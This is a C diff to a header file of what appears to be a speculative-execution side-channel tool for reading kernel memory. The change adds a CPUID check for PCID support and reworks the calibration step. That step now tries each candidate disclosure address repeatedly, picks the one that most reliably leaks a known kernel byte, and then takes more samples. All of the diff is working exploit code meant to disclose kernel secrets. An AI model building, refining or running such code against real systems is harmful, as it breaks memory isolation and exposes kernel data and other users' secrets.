@@ -9,6 +9,7 @@
 #ifndef TRAIN_H
 #define TRAIN_H
 
+#include <cpuid.h>
 #include <err.h>
 #include <errno.h>
 #include <stdint.h>
@@ -134,42 +135,53 @@ static inline void forget_histories(void)
 }
 
 /*
- * Whether what reads a byte at an address of the kernel reads the one that is known.
+ * Whether translations of several address spaces live side by side (PCID). Otherwise each switch between
+ * page tables, be it at a system call, empties the translation buffers.
+ */
+static inline int keeps_translations(void)
+{
+	enum { PROCESSOR_INFORMATION = 1, PCID = 1 << 17 };
+	unsigned int eax, ebx, ecx, edx;
+
+	return __get_cpuid(PROCESSOR_INFORMATION, &eax, &ebx, &ecx, &edx) && ecx & PCID;
+}
+
+/* How often to try whether a known byte is read, usually. */
+enum { ATTEMPTS_WITH_KNOWN = 12 };
+
+/*
+ * Chooses the place to be disclosed: the first with which a known byte of the kernel is read twice, or
+ * once, or the last one. Returns how often that byte was read.
  *
  * @param known the byte as this process sees it; it is used before, as secrets are
  */
-static inline int reads_known_byte(int (*read_byte)(uint64_t address), const uint8_t *known)
-{
-	enum { ATTEMPTS = 12 };
-	int right = 0;
-
-	for (int i = 0; i < ATTEMPTS && right < 2; i++) {
-		touch(known);
-		right += read_byte(options.known) == KNOWN_BYTE;
-	}
-	return right > 1;
-}
-
-/*
- * Chooses the place to be disclosed: the first with which the known byte is read, or the last one.
- * Returns whether that byte was read.
- */
 static inline int choose_disclosure(void (*choose)(uint64_t address), int (*read_byte)(uint64_t address),
-				    const uint8_t *known)
+				    const uint8_t *known, int attempts)
 {
-	int known_was_read = 0;
+	uint64_t best = options.disclosures.at[options.disclosures.count - 1];
+	int most = 0;
 
-	for (int i = 0; i < options.disclosures.count && !known_was_read; i++) {
+	for (int i = 0; i < options.disclosures.count && most < 2; i++) {
+		int right = 0;
+
 		choose(options.disclosures.at[i]);
-		known_was_read = reads_known_byte(read_byte, known);
+		for (int j = 0; j < attempts && right < 2; j++) {
+			touch(known);
+			right += read_byte(options.known) == KNOWN_BYTE;
+		}
+		if (right > most) {
+			most = right;
+			best = options.disclosures.at[i];
+		}
 	}
-	return known_was_read;
+	choose(best);
+	return most;
 }
 
 /* For how long to try: what has not read a byte that is known hardly reads others. */
-static inline struct patience patience_if(int known_was_read)
+static inline struct patience patience_if(int times_known_was_read)
 {
-	return (struct patience){ .samples = known_was_read ? 16 : 1, .lead = 2 };
+	return (struct patience){ .samples = times_known_was_read ? 24 : 1, .lead = 2 };
 }
 
 #endif
